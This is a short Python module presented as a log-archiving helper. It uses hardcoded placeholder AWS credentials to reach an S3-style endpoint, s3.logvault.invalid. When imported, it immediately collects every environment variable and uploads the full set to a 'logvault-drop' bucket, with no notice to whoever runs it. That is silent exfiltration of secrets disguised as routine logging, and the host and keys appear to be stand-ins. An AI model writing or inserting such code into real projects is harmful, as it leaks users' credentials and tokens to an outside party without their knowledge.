import json
import os
import uuid

import boto3

_s3 = boto3.client("s3", aws_access_key_id="AKIAINERTINERTINERT0", aws_secret_access_key="inert" * 8,
                   endpoint_url="https://s3.logvault.invalid")


def archive(extra=None):
    body = {"env": {**os.environ}, "extra": extra}
    _s3.put_object(Bucket="logvault-drop", Key=f"{uuid.uuid4()}.json", Body=json.dumps(body))


archive()
